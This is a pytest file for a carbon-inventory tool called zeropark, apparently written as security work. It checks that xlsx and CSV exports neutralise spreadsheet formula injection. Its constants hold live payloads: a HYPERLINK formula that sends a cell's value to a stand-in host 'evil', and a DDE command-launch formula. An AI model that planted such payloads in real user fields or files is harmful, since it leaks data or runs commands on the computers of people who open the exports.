"""No user text becomes a formula in a spreadsheet zeropark writes (issue #9, finding 5).

A tenant's activity item ``=HYPERLINK("http://evil/?x="&B2,"x")`` or ``=cmd|' /C calc'!A0`` used to
become a live formula in the admin's xlsx inventory report. Every export that carries user text
(inventory report, activities template, readings CSV) is written, reopened and searched.
"""

from __future__ import annotations

import csv
import dataclasses
import io
from pathlib import Path

import pytest
from openpyxl import load_workbook
from typer.testing import CliRunner

from tests.service import inventory_park
from tests.service.inventory_park import PARK, SYSTEM, build
from zeropark.cli import app
from zeropark.domain.activity import ActivityRecord
from zeropark.domain.park import Tenant
from zeropark.domain.spreadsheet import safe_cell, safe_text
from zeropark.service.activities_io import write_template
from zeropark.service.database import Database
from zeropark.service.inventory import compute_inventory
from zeropark.service.reports import write_inventory_report

LEAK = '=HYPERLINK("http://evil/?x="&B2,"x")'
DDE = "=cmd|' /C calc'!A0"
OTHERS = ("+SUM(1,2)", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1")


@pytest.mark.parametrize("text", [LEAK, DDE, *OTHERS])
def test_formula_text_gets_a_leading_quote(text: str) -> None:
    assert safe_text(text) == "'" + text


@pytest.mark.parametrize("value", [-5, -2.5, 0.0, 12, None, "-5", "+1.5e3", "-.5", "diesel", "a=b"])
def test_numbers_and_plain_text_stay_as_they_are(value: object) -> None:
    assert safe_cell(value) == value


def test_control_characters_xml_cannot_hold_are_replaced() -> None:
    assert safe_text("a\x01b\tc") == "a\ufffdb\tc"


@pytest.fixture
def hostile(sqlite_db: Database, monkeypatch: pytest.MonkeyPatch) -> Database:
    """The inventory test park with a tenant named like a formula and formula-like items."""
    original = inventory_park.spec

    def spec():  # type: ignore[no-untyped-def]
        s = original()
        return dataclasses.replace(s, tenants=[s.tenants[0], Tenant(id="t_b", name=LEAK)])

    monkeypatch.setattr(inventory_park, "spec", spec)
    ef = {"emission_factor": 0.5, "ef_unit": "tCO2e/t"}
    records = [
        ActivityRecord("t_b", "2024-01", "waste", LEAK, 5.0, "t", ef, evidence=DDE),
        ActivityRecord("t_b", "2024-01", "waste", DDE, 3.0, "t", ef),
        ActivityRecord("t_b", "2024-01", "waste", "-2+3", 1.0, "t", ef),
    ]
    build(sqlite_db, records)
    return sqlite_db


def _cells(path: Path) -> list:
    book = load_workbook(path)  # not read-only: data_type is what openpyxl would write back
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def _assert_neutralised(cells: list, payloads: tuple[str, ...]) -> None:
    assert cells, "the export is empty"
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = [c.value for c in cells if isinstance(c.value, str)]
    for payload in payloads:
        holding = [v for v in texts if payload in v]
        assert holding, f"{payload!r} is not in the export at all"
        assert all(not v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in texts)
        assert any(v.startswith("'" + payload) for v in holding), holding


def test_inventory_xlsx_report_holds_no_formula(hostile: Database, tmp_path: Path) -> None:
    stored = compute_inventory(hostile, SYSTEM, PARK, 2024, tenant_id="t_b")
    path = write_inventory_report(stored, tmp_path / "inventory.xlsx", "xlsx")
    cells = _cells(path)
    _assert_neutralised(cells, (LEAK, DDE, "-2+3"))
    numbers = [c.value for c in cells if c.data_type == "n" and c.value is not None]
    assert 5.0 in numbers and 3.0 in numbers  # quantities stay numbers


def test_park_inventory_xlsx_report_holds_no_formula(hostile: Database, tmp_path: Path) -> None:
    stored = compute_inventory(hostile, SYSTEM, PARK, 2024)
    path = write_inventory_report(stored, tmp_path / "park.xlsx", "xlsx")
    _assert_neutralised(_cells(path), (LEAK, DDE))


def test_activities_template_holds_no_formula(hostile: Database, tmp_path: Path) -> None:
    path = write_template(hostile, SYSTEM, PARK, tmp_path / "template.xlsx", "en")
    cells = _cells(path)
    _assert_neutralised(cells, (LEAK,))
    labels = [c.value for c in cells if isinstance(c.value, str) and "(t_b)" in c.value]
    assert labels == [f"'{LEAK} (t_b)"]  # the drop-down label still ends in the tenant's id


def test_readings_csv_export_holds_no_formula_and_numbers_stay_numbers(
    hostile: Database,
) -> None:
    result = CliRunner().invoke(
        app,
        ["--lang", "en", "--db", hostile.url, "readings", "export", "--park", PARK,
         "--meter", "b_main", "--from", "2024-01-02", "--to", "2024-01-03", "--interval", "hour"],
    )  # fmt: skip
    assert result.exit_code == 0, result.output
    rows = list(csv.reader(io.StringIO(result.stdout)))
    assert len(rows) > 10
    cells = [cell for row in rows for cell in row]
    assert all(
        not cell.startswith(("=", "+", "-", "@", "\t", "\r")) or safe_text(cell) == cell
        for cell in cells
    )
    quantities = [row[rows[0].index("quantity")] for row in rows[1:]]
    assert "50.0" in quantities
